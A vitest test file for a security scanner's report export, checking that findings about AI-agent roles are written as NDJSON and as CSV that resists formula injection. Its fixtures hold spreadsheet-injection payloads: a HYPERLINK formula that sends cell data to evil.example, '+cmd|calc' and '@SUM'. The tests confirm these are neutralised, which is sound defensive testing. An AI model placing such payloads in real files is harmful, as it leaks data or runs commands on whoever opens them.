// findings.ndjson and findings.csv: one row per finding with the dashboard columns. The CSV is read
// back with Python's csv module (an independent RFC 4180 reader), and hostile names stay inert.
import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/model/report.js';
import { csvCell, FINDING_COLUMNS, findingRows, toCsv, toNdjson } from '../../src/report/rows.js';
import { renderFormat } from '../../src/report/write.js';
import { buildReport, CLAUDE, finding, KIRO, principal, roleArn } from './support.js';

const HOSTILE = principal({
  arn: roleArn('=HYPERLINK("http://evil.example/?"&A1,"x")'),
  name: '=HYPERLINK("http://evil.example/?"&A1,"x")',
  isAgent: true,
  agentEvidence: [{ kind: 'tag', detail: 'tag ai-agent=true', confidence: 'high', tool: '@SUM(1+1)' }],
});

function hostileReport(): Report {
  const base = buildReport();
  return buildReport({
    principals: [...base.principals, HOSTILE],
    findings: [
      ...base.findings.map((f) => (f.principalArn === KIRO.arn ? { ...f, firstSeen: '2026-10-01T03:00:00.000Z', fixIds: ['fx1', 'fx2'] } : f)),
      finding({ checkId: 'agent-destructive-without-approval', principalArn: HOSTILE.arn, subject: 'destructive', title: '-2+3 "quoted", with comma\nand a newline', suppressed: { reason: '+cmd|calc' } }),
    ],
  });
}

function pythonCsv(text: string): string[][] {
  const r = spawnSync('python3', ['-c', 'import csv,io,json,sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'], { input: text, encoding: 'utf8' });
  if (r.status !== 0) throw new Error(r.stderr);
  return JSON.parse(r.stdout) as string[][];
}

describe('findingRows', () => {
  it('has the dashboard columns for every finding, with firstSeen carried and lastSeen = this scan', () => {
    const report = hostileReport();
    const rows = [...findingRows(report)];
    expect(rows).toHaveLength(report.findings.length);
    const kiro = rows.find((r) => r.principalArn === KIRO.arn && r.check === 'agent-destructive-without-approval')!;
    expect(kiro).toMatchObject({
      account: '111122223333', principalName: 'kiro-dev-agent', principalKind: 'role', isAgent: true, agentTool: 'kiro',
      severity: 'critical', status: 'open', firstSeen: '2026-10-01T03:00:00.000Z', lastSeen: report.scan.startedAt, fixIds: 'fx1;fx2',
    });
    // A finding new in this scan: firstSeen is the scan itself.
    const claude = rows.find((r) => r.principalArn === CLAUDE.arn && r.status === 'open')!;
    expect(claude.firstSeen).toBe(report.scan.startedAt);
    expect(rows.filter((r) => r.status === 'suppressed').map((r) => r.suppressedReason)).toContain('+cmd|calc');
  });
});

describe('toNdjson', () => {
  it('writes one parseable object per line, keys in column order', () => {
    const lines = renderFormat(hostileReport(), 'ndjson').split('\n');
    expect(lines.pop()).toBe('');
    const parsed = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(parsed).toHaveLength(hostileReport().findings.length);
    for (const p of parsed) expect(Object.keys(p)).toEqual([...FINDING_COLUMNS]);
    expect(parsed.some((p) => String(p.title).includes('\n'))).toBe(true); // escaped inside, not a line break
  });
  it('is generated lazily, a line at a time', () => {
    const it = toNdjson(hostileReport())[Symbol.iterator]();
    expect(it.next().value).toMatch(/^\{"account":"111122223333",/);
  });
});

describe('toCsv', () => {
  it('reads back with an RFC 4180 reader: header + one record per finding, quotes, commas and newlines intact', () => {
    const report = hostileReport();
    const records = pythonCsv([...toCsv(report)].join(''));
    expect(records[0]).toEqual([...FINDING_COLUMNS]);
    expect(records).toHaveLength(report.findings.length + 1);
    const title = records.find((r) => r[FINDING_COLUMNS.indexOf('principalArn')]!.includes('HYPERLINK'))![FINDING_COLUMNS.indexOf('title')];
    expect(title).toBe(`'-2+3 "quoted", with comma\nand a newline`);
  });

  it('neutralises cells a spreadsheet would run as a formula (= + - @ tab CR) with a leading quote', () => {
    const records = pythonCsv([...toCsv(hostileReport())].join(''));
    const cells = records.slice(1).flat();
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"x")`);
    expect(cells).toContain(`'@SUM(1+1)`);
    expect(cells).toContain(`'+cmd|calc`);
  });

  it.each([
    ['=1+1', "'=1+1"], ['+1', "'+1"], ['-1', "'-1"], ['@x', "'@x"], ['\tx', "'\tx"], ['\rx', `"'\rx"`],
    ['plain', 'plain'], ['a,b', '"a,b"'], ['say "hi"', '"say ""hi"""'], ['', ''],
  ])('csvCell(%j) = %j', (input, out) => {
    expect(csvCell(input)).toBe(out);
  });

  it('negative control: numbers and booleans are not quoted', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(true)).toBe('true');
  });
});
